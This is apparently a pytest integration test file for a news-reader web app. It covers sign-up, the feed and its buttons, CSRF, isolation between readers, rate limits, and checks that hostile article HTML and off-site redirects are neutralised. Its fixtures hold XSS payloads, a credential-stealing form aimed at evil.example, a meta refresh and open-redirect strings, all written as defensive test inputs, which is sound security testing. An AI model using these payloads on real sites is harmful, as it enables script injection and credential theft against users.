"""The reader's pages through the real app: sign up, onboarding, the feed with its reasons
and buttons, the other pages, CSRF, isolation between readers, and hostile article HTML."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from tests.integration.test_enrich import MEETING, draft, store
from tests.integration.test_feed import newsroom
from tidings.api.app import create_app
from tidings.api.auth import SESSION_COOKIE
from tidings.api.limits import AuthRateLimits
from tidings.config import Settings
from tidings.engine import Engine, make_engine
from tidings.types import ActionVerb, EventKind, Image, Reader, TargetKind, TokenKind
from tidings.web.render import local_path

pytestmark = pytest.mark.integration

PASSWORD = "correct horse battery"


@dataclass
class Form:
    action: str
    fields: dict[str, str] = field(default_factory=dict)
    #: (label, name, value) of each button.
    buttons: list[tuple[str, str, str]] = field(default_factory=list)
    #: Whether the form is hidden (the other side of a toggle: Save / Saved).
    hidden: bool = False


class Page(HTMLParser):
    """What a test needs from a page: its forms (action, fields, buttons) and every tag
    with its attributes (to look for what must never be there)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._form: Form | None = None
        self._button: tuple[str, str] | None = None
        self._label: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.tags.append((tag, found))
        if tag == "form":
            self._form = Form(action=found.get("action") or "", hidden="hidden" in found)
            self.forms.append(self._form)
        elif tag == "input" and self._form is not None and found.get("name"):
            if found.get("type") != "checkbox":
                self._form.fields[found["name"] or ""] = found.get("value") or ""
        elif tag == "button" and self._form is not None:
            self._button = (found.get("name") or "", found.get("value") or "")
            self._label = []

    def handle_data(self, data: str) -> None:
        if self._button is not None:
            self._label.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "button" and self._button is not None and self._form is not None:
            label = " ".join("".join(self._label).split())
            self._form.buttons.append((label, *self._button))
            self._button = None
        elif tag == "form":
            self._form = None

    def form(self, button: str) -> tuple[str, dict[str, str]]:
        """The action and the data a click on the (first) button labelled ``button`` sends."""
        for form in self.forms:
            for label, name, value in form.buttons:
                if label == button:
                    data = dict(form.fields)
                    if name:
                        data[name] = value
                    return form.action, data
        raise AssertionError(f"no button {button!r}")

    def buttons(self) -> list[str]:
        return [label for f in self.forms for label, _, _ in f.buttons]

    def shown_buttons(self) -> list[str]:
        """The labels of the buttons a reader sees (not those of hidden forms)."""
        return [label for f in self.forms if not f.hidden for label, _, _ in f.buttons]


def feed_items(html: str) -> dict[int, str]:
    """Each feed item's markup, by article id, in page order."""
    found = {}
    for chunk in html.split("<article id=")[1:]:
        article_id = re.search(r'data-article-id="(\d+)"', chunk)
        assert article_id
        found[int(article_id.group(1))] = "<article id=" + chunk.split("</article>", 1)[0]
    return found


def anchor_of(item: str) -> str:
    found = re.match(r'<article id="((?:story|item)-\d+)"', item)
    assert found
    return found.group(1)


def submit(client: TestClient, html: str, button: str, **fields: str) -> Any:
    """Click the button labelled ``button`` on ``html``, with ``fields`` typed in."""
    action, data = Page(html).form(button)
    data.update(fields)
    return client.post(action, data=data, follow_redirects=False)


@pytest.fixture(scope="module")
def newsroom_engine(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Engine, dict[str, int]]]:
    """One analysed newsroom for the module (analysis takes seconds); each test signs up
    readers of its own."""
    tmp = tmp_path_factory.mktemp("web")
    settings = Settings(database_url=f"sqlite:///{tmp / 'db.sqlite'}", data_dir=tmp)
    with make_engine(settings) as e:
        yield e, newsroom(e)


@pytest.fixture
def engine(newsroom_engine: tuple[Engine, dict[str, int]]) -> Engine:
    # Sign-in and sign-up attempts are counted in the database (every serving process
    # shares them): each test starts with none, as if it had a newsroom of its own.
    newsroom_engine[0].clear_rate_limits("")
    return newsroom_engine[0]


@pytest.fixture
def ids(newsroom_engine: tuple[Engine, dict[str, int]]) -> dict[str, int]:
    return newsroom_engine[1]


@pytest.fixture
def app(engine: Engine) -> FastAPI:
    return create_app(engine)


def browser(app: FastAPI) -> TestClient:
    return TestClient(app, base_url="http://testserver")


_readers = iter(range(1, 10_000))


def sign_up(client: TestClient, name: str | None = None) -> str:
    """Sign up through the form; returns the name. The client is then signed in."""
    name = name or f"reader{next(_readers)}"
    form = client.get("/signup")
    assert form.status_code == 200
    done = submit(client, form.text, "Sign up", name=name, password=PASSWORD)
    assert done.status_code == 303, done.text
    assert done.headers["location"] == "/onboarding"
    return name


def test_signed_out_readers_are_sent_to_sign_in(app: FastAPI) -> None:
    client = browser(app)
    for path in ("/", "/saved", "/settings", "/sources"):
        response = client.get(path, follow_redirects=False)
        assert response.status_code == 303
        assert response.headers["location"].startswith("/signin")
    signin = client.get("/signin")
    assert signin.status_code == 200
    assert 'for="name">Name<' in signin.text and 'for="password">Password<' in signin.text
    assert "Sign in" in Page(signin.text).buttons()


def test_sign_up_onboard_and_see_a_feed_with_reasons(app: FastAPI, ids: dict[str, int]) -> None:
    client = browser(app)
    signup = client.get("/signup")
    for label in ("Name", "Password", "Email (optional)"):
        assert f">{label}</label>" in signup.text
    # Errors are shown inline, with what was typed kept.
    short = submit(client, signup.text, "Sign up", name="newbie", password="short")
    assert short.status_code == 422
    assert "8 to 1024 characters" in short.text
    assert 'value="newbie"' in short.text
    sign_up(client, "taken")
    other = browser(app)
    again = submit(other, other.get("/signup").text, "Sign up", name="taken", password=PASSWORD)
    assert again.status_code == 422 and "That name is taken" in again.text

    # A new reader with no follows and no history is asked what to follow.
    assert client.get("/", follow_redirects=False).headers["location"] == "/onboarding"
    onboarding = client.get("/onboarding")
    assert "What do you want to follow?" in onboarding.text
    xi = re.search(r'name="entity" value="(\d+)"> Xi Jinping', onboarding.text)
    relation = re.search(r'name="topic" value="([^"]+)"> China–Russia relations', onboarding.text)
    assert xi and relation, onboarding.text
    csrf = Page(onboarding.text).form("Show my feed")[1]["csrf"]
    done = client.post(
        "/onboarding",
        data={"csrf": csrf, "entity": xi.group(1), "topic": relation.group(1)},
        follow_redirects=False,
    )
    assert done.status_code == 303 and done.headers["location"] == "/"
    # Back on onboarding, what they follow is ticked (changed in Settings, not here).
    again = client.get("/onboarding").text
    assert f'name="entity" value="{xi.group(1)}" checked disabled> Xi Jinping' in again
    assert f'name="topic" value="{relation.group(1)}" checked disabled>' in again

    feed = client.get("/")
    assert feed.status_code == 200
    items = feed_items(feed.text)
    assert items and next(iter(items)) in (ids["meeting"], ids["meeting-2"])
    assert '<details class="why">' in feed.text and '<ul class="reasons"' in feed.text
    assert "You follow Xi Jinping" in feed.text
    buttons = Page(feed.text).shown_buttons()
    for label in ("Unfollow Xi Jinping", "More like this", "Less like this", "Hide"):
        assert label in buttons
    assert any(b.startswith("Save: ") for b in buttons)
    assert any(b.startswith("Follow ") for b in buttons)
    assert any(b.startswith("Mute ") for b in buttons)
    assert "Also covered by" in feed.text and "/stories/" in feed.text
    # The nav, the skip link and the search box are on the page.
    for text in ('href="#main"', ">For you<", ">Saved<", ">Sources<", ">Settings<", "Sign out"):
        assert text in feed.text
    assert 'role="search"' in feed.text
    # Showing the page recorded impressions.
    name = client.cookies.get(SESSION_COOKIE)
    assert name
    reader = app.state.engine.accounts.reader_for_token(name, TokenKind.SESSION)
    events = app.state.engine.storage.reader_events(reader.id)
    assert {e.kind for e in events} == {EventKind.IMPRESSION}


def test_follow_and_mute_from_the_feed_change_the_next_page(
    app: FastAPI, ids: dict[str, int]
) -> None:
    client = browser(app)
    sign_up(client)
    onboarding = client.get("/onboarding")
    xi = re.search(r'name="entity" value="(\d+)"> Xi Jinping', onboarding.text)
    assert xi
    csrf = Page(onboarding.text).form("Show my feed")[1]["csrf"]
    client.post("/onboarding", data={"csrf": csrf, "entity": xi.group(1)})
    feed = client.get("/").text
    assert "You follow Xi Jinping" in feed

    # The reason's own button: unfollow.
    done = submit(client, feed, "Unfollow Xi Jinping")
    assert done.status_code == 303
    after = client.get("/").text
    assert "You follow Xi Jinping" not in after

    # Mute the story from its reason, or the source of the first item.
    first = re.search(r'data-article-id="(\d+)"', after)
    assert first
    shown = int(first.group(1))
    source_button = next(b for b in Page(after).buttons() if b.startswith("Mute "))
    submit(client, after, source_button)
    later = client.get("/").text
    assert f'data-article-id="{shown}"' not in later

    # Hide takes an item off the page.
    second = re.search(r'data-article-id="(\d+)"', later)
    assert second
    action, data = Page(later).form("Hide")
    assert data["article_id"] == second.group(1)
    client.post(action, data=data)
    assert f'data-article-id="{second.group(1)}"' not in client.get("/").text

    # Following a source from the feed makes it a reason.
    remaining = client.get("/").text
    follow = next(b for b in Page(remaining).buttons() if b.startswith("Follow "))
    submit(client, remaining, follow)
    assert f"You follow {follow.removeprefix('Follow ')}" in client.get("/").text


def test_more_stories_pages_through_the_feed(app: FastAPI, monkeypatch: pytest.MonkeyPatch) -> None:
    from tidings.web import pages

    monkeypatch.setattr(pages, "FEED_PAGE", 2)
    client = browser(app)
    sign_up(client)
    first = client.get("/?start=1").text
    more = re.search(r'<a rel="next" href="(/\?cursor=[^"]+)">More stories</a>', first)
    assert more
    second = client.get(more.group(1).replace("&amp;", "&")).text
    shown = set(re.findall(r'data-article-id="(\d+)"', first))
    assert shown and shown.isdisjoint(re.findall(r'data-article-id="(\d+)"', second))
    garbage = client.get("/?cursor=not-a-cursor")
    assert garbage.status_code == 422 and "text/html" in garbage.headers["content-type"]


def test_forms_without_the_csrf_field_are_refused(app: FastAPI, ids: dict[str, int]) -> None:
    client = browser(app)
    sign_up(client)
    for path, data in (
        ("/interests", {"kind": "entity", "value": "Xi Jinping", "stance": "follow"}),
        ("/feedback", {"article_id": str(ids["quake"]), "kind": "save"}),
        ("/settings/private-feed", {}),
        ("/signout", {}),
    ):
        refused = client.post(path, data=data, follow_redirects=False)
        assert refused.status_code == 403, path
        assert "text/html" in refused.headers["content-type"]
        wrong = client.post(path, data={**data, "csrf": "0" * 40}, follow_redirects=False)
        assert wrong.status_code == 403, path
    assert client.get("/saved").text.count('class="title"') == 0
    # The sign-in form's own token: a POST without the cookie's value is refused.
    other = browser(app)
    refused = other.post("/signin", data={"name": "x", "password": PASSWORD, "csrf": "forged"})
    assert refused.status_code == 422 and "expired" in refused.text
    assert SESSION_COOKIE not in other.cookies


def test_every_page_renders(app: FastAPI, ids: dict[str, int], engine: Engine) -> None:
    client = browser(app)
    sign_up(client)
    article = client.get(f"/articles/{ids['meeting']}")
    assert article.status_code == 200
    assert MEETING[0] in article.text
    assert "Full coverage" in article.text
    story = re.search(r'href="/stories/(\d+)"', article.text)
    entity = re.search(r'href="/entities/(\d+)"', article.text)
    topic = re.search(r'href="/topics/([^"]+)"', article.text)
    assert story and entity and topic
    story_page = client.get(f"/stories/{story.group(1)}")
    assert story_page.status_code == 200
    assert {"Follow this story", "Mute this story"} <= set(Page(story_page.text).buttons())
    entity_page = client.get(f"/entities/{entity.group(1)}")
    assert entity_page.status_code == 200 and "Latest articles" in entity_page.text
    topic_page = client.get(f"/topics/{topic.group(1)}")
    assert topic_page.status_code == 200 and "/articles/" in topic_page.text
    assert client.get("/entities/Xi%20Jinping").status_code == 200

    sources = client.get("/sources")
    assert sources.status_code == 200
    for text in ("wire.example", "Last success", "Read rate", "Like rate", "Feed URL"):
        assert text in sources.text
    assert "Add source" in Page(sources.text).buttons()
    # Readers add web feeds only, never the server's files.
    local = submit(client, sources.text, "Add source", url="/etc")
    assert local.status_code == 422
    added = submit(client, sources.text, "Add source", url="https://new.example/feed.xml")
    assert added.status_code == 303
    assert "new.example" in client.get("/sources").text

    # Saving from the article page shows it on the saved page.
    submit(client, article.text, "Save")
    saved = client.get("/saved")
    assert saved.status_code == 200 and MEETING[0] in saved.text

    # Usefulness per source: of its articles shown, how many were read and liked.
    client.get("/?start=1")
    wire = engine.get_article(ids["meeting"]).source_id
    shown, read, liked = engine.readers.source_usefulness(reader_of(engine, client).id)[wire]
    assert shown >= 1 and read == liked == 1  # opened and saved the meeting
    row = client.get("/sources").text.split("wire.example")[1].split("</dl>")[0]
    rate = f"{round(100 / shown)}%"
    assert f"<dt>Read rate</dt><dd>{rate}</dd>" in row
    assert f"<dt>Like rate</dt><dd>{rate}</dd>" in row

    search = client.get("/search", params={"q": "earthquake"})
    assert search.status_code == 200
    assert f'href="/articles/{ids["quake"]}"' in search.text
    assert f'href="/articles/{ids["quake"]}/similar"' in search.text
    assert client.get(f"/articles/{ids['quake']}/similar").status_code == 200

    settings = client.get("/settings")
    assert settings.status_code == 200
    for label in ("Exploration", "Diversity", "Email", "Digest", "Token name"):
        assert f">{label}</label>" in settings.text
    changed = submit(client, settings.text, "Save feed settings", exploration="0.2")
    assert changed.status_code == 303
    assert 'value="0.2"' in client.get("/settings").text
    feed_urls = submit(client, settings.text, "New private feed address")
    assert re.search(r"/feeds/[^<]+\.atom", feed_urls.text)
    assert re.search(r"/feeds/[^<]+\.json", feed_urls.text)
    made = submit(client, settings.text, "Create token", name="my script")
    assert "shown only now" in made.text
    listed = client.get("/settings").text
    revoke = submit(client, listed, "Revoke my script")
    assert revoke.status_code == 303
    assert "Revoke my script" not in client.get("/settings").text

    # Missing things are HTML 404 pages, for the page routes and for unknown addresses.
    for path in ("/articles/999999", "/stories/999999", "/entities/nobody-at-all", "/nowhere"):
        missing = client.get(path, headers={"accept": "text/html"})
        assert missing.status_code == 404, path
        assert "text/html" in missing.headers["content-type"]
        assert "Not found" in missing.text


def test_one_reader_cannot_see_anothers_saved_or_settings(
    app: FastAPI, ids: dict[str, int]
) -> None:
    ana, ben = browser(app), browser(app)
    sign_up(ana)
    sign_up(ben)
    article = ana.get(f"/articles/{ids['floods']}").text
    submit(ana, article, "Save")
    made = submit(ana, ana.get("/settings").text, "Create token", name="ana-secret-token")
    assert made.status_code == 200
    assert "Floods" in ana.get("/saved").text
    assert "Floods" not in ben.get("/saved").text
    assert "ana-secret-token" not in ben.get("/settings").text
    # Ben's session and CSRF token cannot act for Ana: the forms act on the signed-in reader.
    ben_csrf = Page(ben.get("/saved").text).form("Sign out")[1]["csrf"]
    ana_csrf = Page(ana.get("/saved").text).form("Sign out")[1]["csrf"]
    assert ben_csrf != ana_csrf
    refused = ben.post(
        "/feedback", data={"article_id": ids["quake"], "kind": "save", "csrf": ana_csrf}
    )
    assert refused.status_code == 403
    token_id = re.search(r'action="/settings/tokens/(\d+)/revoke"', ana.get("/settings").text)
    assert token_id
    gone = ben.post(
        f"/settings/tokens/{token_id.group(1)}/revoke",
        data={"csrf": ben_csrf},
        follow_redirects=False,
    )
    assert gone.status_code == 404
    assert "Revoke ana-secret-token" in ana.get("/settings").text


def test_sign_out_ends_the_session(app: FastAPI) -> None:
    client = browser(app)
    name = sign_up(client)
    home = client.get("/onboarding").text
    out = submit(client, home, "Sign out")
    assert out.status_code == 303
    assert client.get("/saved", follow_redirects=False).status_code == 303
    signin = client.get("/signin")
    wrong = submit(client, signin.text, "Sign in", name=name, password="wrong password")
    assert wrong.status_code == 422 and "Wrong name or password" in wrong.text
    back = submit(client, signin.text, "Sign in", name=name, password=PASSWORD)
    assert back.status_code == 303
    assert client.get("/saved").status_code == 200


HOSTILE = (
    "<p>Safe text stays.</p>"
    '<script>alert("script-ran")</script>'
    '<img src="https://news.example/x.png" onerror="alert(\'onerror-ran\')">'
    "<a href=\"javascript:alert('js-url-ran')\">a link</a>"
    '<iframe src="https://evil.example/frame"></iframe>'
    "<div style=\"width: expression(alert('css-ran'))\">styled</div>"
    "<svg onload=\"alert('svg-ran')\"></svg>"
    '<form action="https://evil.example/steal"><input name="password"></form>'
    '<object data="https://evil.example/x.swf"></object>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
)
#: The feedparser sanitisation cases that carry something hostile, by file name.
HOSTILE_NAMES = re.compile(r"script|onerror|onload|iframe|style|javascript|expression|object")


def hostile_feeds(shared_data: Path, into: Path) -> int:
    """Copy the hostile feedparser sanitisation cases (entries only) into ``into``."""
    folder = shared_data / "feeds" / "feedparser-tests" / "tests" / "wellformed" / "sanitize"
    copied = 0
    for path in sorted(folder.glob("*.xml")):
        if path.name.startswith(("entry_", "item_")) and HOSTILE_NAMES.search(path.name):
            (into / path.name).write_bytes(path.read_bytes())
            copied += 1
    return copied


def assert_harmless(html: str, where: str) -> None:
    """Nothing in the page can run code, load a frame or send a form elsewhere."""
    for tag, attrs in Page(html).tags:
        assert tag not in ("iframe", "frame", "object", "embed", "svg", "math", "base"), where
        if tag == "script":
            assert attrs == {"src": "/static/tidings.js", "defer": None}, where
        if tag == "form":
            assert (attrs.get("action") or "/").startswith("/"), where
        if tag == "meta":
            assert "http-equiv" not in attrs, where
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name)
            assert name != "style", (where, tag)
            text = (value or "").lower().replace(" ", "")
            assert not text.startswith(("javascript:", "vbscript:", "data:text")), (where, name)
            assert "expression(" not in text, (where, name)


def test_hostile_html_never_reaches_the_article_page(tmp_path: Path, shared_data: Path) -> None:
    feeds = tmp_path / "feeds"
    feeds.mkdir()
    assert hostile_feeds(shared_data, feeds) > 30
    settings = Settings(
        database_url=f"sqlite:///{tmp_path / 'db.sqlite'}", data_dir=tmp_path, enrich=False
    )
    with make_engine(settings) as engine:
        engine.add_source(str(feeds), operator=True)
        engine.ingest()
        crafted = draft("crafted", "Hostile <script>alert('title-ran')</script> title", "x", 0)
        crafted = replace(
            crafted,
            url="javascript:alert('link-ran')",
            content_html=HOSTILE,
            summary="<img src=x onerror=alert(1)>",
            images=(Image(url="javascript:alert('img-ran')", caption="<b onclick=x>cap</b>"),),
        )
        store(engine, "https://hostile.example/feed", [crafted])
        client = browser(create_app(engine))
        sign_up(client)
        articles = engine.list_articles(limit=200)
        # Entries without id or link and with the same text are one article: fewer than files.
        assert len(articles) > 10
        # Stored raw, as the publisher gave it: the pages must do the cleaning.
        raw = " ".join(f"{a.content_html} {a.summary}" for a in articles).lower()
        assert "<script" in raw and "onerror" in raw and "<iframe" in raw
        for article in articles:
            response = client.get(f"/articles/{article.id}")
            assert response.status_code == 200, article.guid
            assert_harmless(response.text, f"{article.guid}")
            assert "<script>" not in response.text and "location.href" not in response.text
        page = next(a for a in articles if a.guid == "crafted")
        shown = client.get(f"/articles/{page.id}").text
        assert "Safe text stays." in shown
        # The title's markup is shown as text, escaped, never run.
        assert "Hostile &lt;script&gt;" in shown
        submit(client, shown, "Save")
        for path in ("/?start=1", "/search?q=hostile", "/saved", f"/articles/{page.id}/similar"):
            listed = client.get(path)
            assert listed.status_code == 200, path
            assert_harmless(listed.text, path)
        assert "Hostile &lt;script&gt;" in client.get("/saved").text


def test_read_time_from_the_script(app: FastAPI, ids: dict[str, int], engine: Engine) -> None:
    client = browser(app)
    sign_up(client)
    article = client.get(f"/articles/{ids['quake']}").text
    csrf = re.search(r'<meta name="csrf-token" content="([^"]+)">', article)
    assert csrf
    sent = client.post(
        "/read", data={"article_id": ids["quake"], "seconds": "42", "csrf": csrf.group(1)}
    )
    assert sent.status_code == 204
    reader = engine.accounts.reader_for_token(client.cookies[SESSION_COOKIE], TokenKind.SESSION)
    kinds = {e.kind for e in engine.storage.reader_events(reader.id, since=None)}
    assert {EventKind.OPEN, EventKind.READ} <= kinds


def reader_of(engine: Engine, client: TestClient) -> Reader:
    return engine.accounts.reader_for_token(client.cookies[SESSION_COOKIE], TokenKind.SESSION)


def test_every_reason_action_does_what_it_says(
    app: FastAPI, engine: Engine, ids: dict[str, int]
) -> None:
    client = browser(app)
    sign_up(client)
    reader = reader_of(engine, client)
    csrf = Page(client.get("/saved").text).form("Sign out")[1]["csrf"]
    story = engine.article_insight(ids["meeting"])
    assert story and story.story
    xi = engine.list_entities(query="Xi Jinping", limit=1)[0]
    engine.readers.follow(reader.id, "entity", str(xi.id))
    engine.readers.follow(reader.id, "keyword", "floods")

    def act(verb: ActionVerb, kind: TargetKind, target: object, article: str = "meeting") -> None:
        done = client.post(
            "/reasons",
            data={
                "verb": verb.value,
                "target_kind": kind.value,
                "target_id": str(target),
                "article_id": str(ids[article]),
                "csrf": csrf,
                "next": "https://evil.example/",
            },
            follow_redirects=False,
        )
        assert done.status_code == 303, done.text
        assert done.headers["location"] == "/"  # never off the site

    def stances() -> set[tuple[str, str, str]]:
        return {
            (i.kind.value, i.value, i.stance.value) for i in engine.readers.interests(reader.id)
        }

    act(ActionVerb.UNFOLLOW, TargetKind.ENTITY, xi.id)
    assert ("entity", str(xi.id), "follow") not in stances()
    # A followed keyword's reason names it as a topic.
    act(ActionVerb.UNFOLLOW, TargetKind.TOPIC, "floods", "floods")
    assert ("keyword", "floods", "follow") not in stances()
    act(ActionVerb.MUTE_STORY, TargetKind.STORY, story.story.id)
    act(ActionVerb.MUTE_ENTITY, TargetKind.ENTITY, xi.id)
    act(ActionVerb.MUTE_TOPIC, TargetKind.TOPIC, "relation:china-russia")
    assert {
        ("story", str(story.story.id), "mute"),
        ("entity", str(xi.id), "mute"),
        ("topic", "relation:china-russia", "mute"),
    } <= stances()
    act(ActionVerb.FEWER_LIKE_THIS, TargetKind.ARTICLE, ids["quake"], "quake")
    act(ActionVerb.LESS_FROM_SOURCE, TargetKind.SOURCE, 1, "markets")
    events = engine.storage.reader_events(reader.id, kinds=[EventKind.LESS])
    assert {e.article_id for e in events} == {ids["quake"], ids["markets"]}
    before = engine.readers.get_reader(reader.id).exploration
    act(ActionVerb.LESS_EXPLORATION, TargetKind.SETTING, "exploration")
    assert engine.readers.get_reader(reader.id).exploration == pytest.approx(before - 0.05)
    # Muted things can be unmuted from the settings page.
    settings = client.get("/settings").text
    assert "Unmute Xi Jinping" in Page(settings).buttons()
    submit(client, settings, "Unmute Xi Jinping")
    assert ("entity", str(xi.id), "mute") not in stances()


def test_account_settings_and_password(app: FastAPI, engine: Engine) -> None:
    client = browser(app)
    name = sign_up(client)
    settings = client.get("/settings").text
    bad = submit(client, settings, "Save email settings", email="not an address")
    assert bad.status_code == 422 and 'role="alert"' in bad.text
    done = submit(client, settings, "Save email settings", email="me@example.org", digest="weekly")
    assert done.status_code == 303
    account = engine.accounts.account(reader_of(engine, client).id)
    assert account.email == "me@example.org" and account.digest.value == "weekly"
    assert '<option value="weekly" selected>' in client.get("/settings").text
    wrong = submit(client, settings, "Change password", current="nope", password="x" * 12)
    assert wrong.status_code == 422 and "current password is wrong" in wrong.text
    changed = submit(client, settings, "Change password", current=PASSWORD, password="y" * 12)
    assert changed.status_code == 303
    assert client.get("/settings").status_code == 200  # still signed in, on a new session
    other = browser(app)
    signin = other.get("/signin").text
    assert submit(other, signin, "Sign in", name=name, password=PASSWORD).status_code == 422
    assert submit(other, signin, "Sign in", name=name, password="y" * 12).status_code == 303


def test_sign_in_and_sign_up_are_rate_limited(engine: Engine) -> None:
    client = browser(create_app(engine, auth_limits=AuthRateLimits(limit=2)))
    signin = client.get("/signin").text
    for _ in range(2):
        assert submit(client, signin, "Sign in", name="x", password=PASSWORD).status_code == 422
    limited = submit(client, signin, "Sign in", name="x", password=PASSWORD)
    assert limited.status_code == 429 and "Too many attempts" in limited.text
    signup = client.get("/signup").text
    for _ in range(2):
        submit(client, signup, "Sign up", name="bad name", password=PASSWORD)
    limited = submit(client, signup, "Sign up", name="bad name", password=PASSWORD)
    assert limited.status_code == 429 and "Too many attempts" in limited.text


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/articles/1", "/articles/1"),
        ("/?cursor=abc", "/?cursor=abc"),
        ("//evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("/\t/evil.example", "/"),
        ("https://evil.example/", "/"),
        ("javascript:alert(1)", "/"),
        ("", "/"),
    ],
)
def test_forms_only_send_the_browser_back_within_the_site(target: str, expected: str) -> None:
    assert local_path(target) == expected


def follower_of_xi(app: FastAPI) -> tuple[TestClient, str]:
    """A signed-in reader who follows Xi Jinping and the China–Russia relation, and the
    session's CSRF token."""
    client = browser(app)
    sign_up(client)
    onboarding = client.get("/onboarding").text
    xi = re.search(r'name="entity" value="(\d+)"> Xi Jinping', onboarding)
    relation = re.search(r'name="topic" value="([^"]+)"> China–Russia relations', onboarding)
    assert xi and relation
    csrf = Page(onboarding).form("Show my feed")[1]["csrf"]
    client.post(
        "/onboarding", data={"csrf": csrf, "entity": xi.group(1), "topic": relation.group(1)}
    )
    return client, csrf


def test_each_item_is_compact_one_reason_shown_and_no_action_twice(app: FastAPI) -> None:
    client, _ = follower_of_xi(app)
    feed = client.get("/").text
    items = feed_items(feed)
    assert len(items) >= 3
    for article_id, item in items.items():
        # One reason line on the item; every reason, with its button, behind "Why this?".
        assert item.count('class="reason"') <= 1, article_id
        line, _, why = item.partition('<details class="why">')
        assert "<button" not in line.split('class="line"')[0], "buttons before the line"
        if '<ul class="reasons"' in item:
            assert why, article_id
        # A relative time, with the absolute one in its title.
        ago = r"(just now|\d+ (min|h|d) ago|\d+ \w+( \d{4})?)"
        assert re.search(rf'<time datetime="[^"]+" title="[^"]+ UTC">{ago}</time>', item), item
        # No action twice: every button a reader can see on the item says something else.
        labels = Page(item + "</article>").shown_buttons()
        assert len(labels) == len(set(labels)), (article_id, labels)
        assert labels.count("Mute this story") <= 1
    # The page names the reasons and the story's other sources compactly.
    assert "You follow Xi Jinping" in feed
    assert "Also covered by" in feed and "Full coverage" in feed


def test_item_actions_in_place_and_without_script_back_at_the_item(
    app: FastAPI, engine: Engine
) -> None:
    client, csrf = follower_of_xi(app)
    feed = client.get("/").text
    ids = list(feed_items(feed))
    first, second = ids[0], ids[1]
    items = feed_items(feed)

    # Without script: the plain form comes back to the same item, by its anchor, which
    # names the item's story (the engine may show a story through another of its articles
    # after an action) or, for an article on no story, the article.
    lone = next(a for a, html in items.items() if 'class="also"' not in html)
    html = items[lone] + "</article>"
    save = next(b for b in Page(html).shown_buttons() if b.startswith("Save: "))
    action, data = Page(html).form(save)
    assert data["article_id"] == str(lone)
    saved = client.post(action, data=data, follow_redirects=False)
    assert saved.status_code == 303 and saved.headers["location"] == f"/#{anchor_of(html)}"
    again = feed_items(client.get("/").text)[lone] + "</article>"
    # The item now shows it is saved, and offers to undo that: Saved ✓ instead of Save.
    shown = Page(again).shown_buttons()
    assert any(b.startswith("Saved ✓") for b in shown), shown
    assert not any(b.startswith("Save: ") for b in shown)
    assert lone in {a.id for a in engine.readers.saved_articles(reader_of(engine, client).id)}
    story = next(html for html in items.values() if 'class="also"' in html)
    action, data = Page(story + "</article>").form("More like this")
    more = client.post(action, data=data, follow_redirects=False)
    assert more.headers["location"] == f"/#{anchor_of(story)}"
    assert f'id="{anchor_of(story)}"' in client.get("/").text

    # With script: the same form in place gets 204, and the item's state is stored.
    unsave = client.post(
        "/saved/remove",
        data={"article_id": str(lone), "csrf": csrf, "next": f"/#item-{lone}"},
        headers={"X-Tidings-In-Place": "1"},
        follow_redirects=False,
    )
    assert unsave.status_code == 204 and not unsave.content
    assert lone not in {a.id for a in engine.readers.saved_articles(reader_of(engine, client).id)}

    # Hiding returns to the same place in the list: the item now there is the one after.
    page = client.get("/").text
    order = list(feed_items(page))
    first, second = order[0], order[1]
    hide_action, hide = Page(page).form("Hide")
    assert hide["article_id"] == str(first) and hide["next"] == "/#at-1"
    hidden = client.post(hide_action, data=hide, follow_redirects=False)
    assert hidden.headers["location"] == f"/?hidden={first}&at=1#at-1"
    after = client.get(hidden.headers["location"]).text
    assert first not in feed_items(after)
    # Where the item was: "Hidden: <title>" with Undo, a plain form that undoes it on the
    # server and comes back to the same place, the item back.
    notice = re.search(
        r'<li id="at-1">\s*<form class="folded" method="post" action="/unhide"', after
    )
    assert notice, after[:3000]
    assert "Hidden: " in after
    action, data = Page(after).form(next(b for b in Page(after).buttons() if b.startswith("Undo")))
    assert (action, data["article_id"], data["next"]) == ("/unhide", str(first), "/#at-1")
    undone = client.post(action, data=data, follow_redirects=False)
    assert undone.status_code == 303 and undone.headers["location"] == "/#at-1"
    back = client.get("/").text
    assert first in feed_items(back) and "Hidden: " not in back
    assert not engine.readers.is_hidden(reader_of(engine, client).id, first)
    # Another reader's article id, or one never hidden, shows no notice.
    assert "Hidden: " not in client.get(f"/?hidden={second}&at=1").text
    # In place (the page's script): the hide is stored at once and Undo forgets it.
    for path, expected in (("/feedback", True), ("/unhide", False)):
        done = client.post(
            path,
            data={"article_id": str(first), "kind": "hide", "csrf": csrf},
            headers={"X-Tidings-In-Place": "1"},
        )
        assert done.status_code == 204
        assert engine.readers.is_hidden(reader_of(engine, client).id, first) is expected

    # Following the source in place, then the page says "Following" on its items.
    page = client.get("/").text
    item = feed_items(page)[second]
    follow = next(b for b in Page(item + "</article>").shown_buttons() if b.startswith("Follow "))
    action, data = Page(item + "</article>").form(follow)
    done = client.post(action, data=data, headers={"X-Tidings-In-Place": "1"})
    assert done.status_code == 204
    item = feed_items(client.get("/").text)[second]
    assert re.search(r'<span class="badge following">Following</span>', item)
    assert f"Unfollow {follow.removeprefix('Follow ')}" in Page(item + "</article>").shown_buttons()

    # An in-place action that fails says so with its status (the script shows it).
    refused = client.post(
        "/feedback",
        data={"article_id": str(second), "kind": "nonsense", "csrf": csrf},
        headers={"X-Tidings-In-Place": "1"},
    )
    assert refused.status_code == 422


def test_the_feed_offers_its_keyboard_help_and_loads_only_local_script(app: FastAPI) -> None:
    client, _ = follower_of_xi(app)
    feed = client.get("/").text
    assert '<dialog id="keys"' in feed
    for key in (
        "<kbd>j</kbd>",
        "<kbd>k</kbd>",
        "<kbd>o</kbd>",
        "<kbd>s</kbd>",
        "<kbd>h</kbd>",
        "<kbd>?</kbd>",
    ):
        assert key in feed
    scripts = [attrs for tag, attrs in Page(feed).tags if tag == "script"]
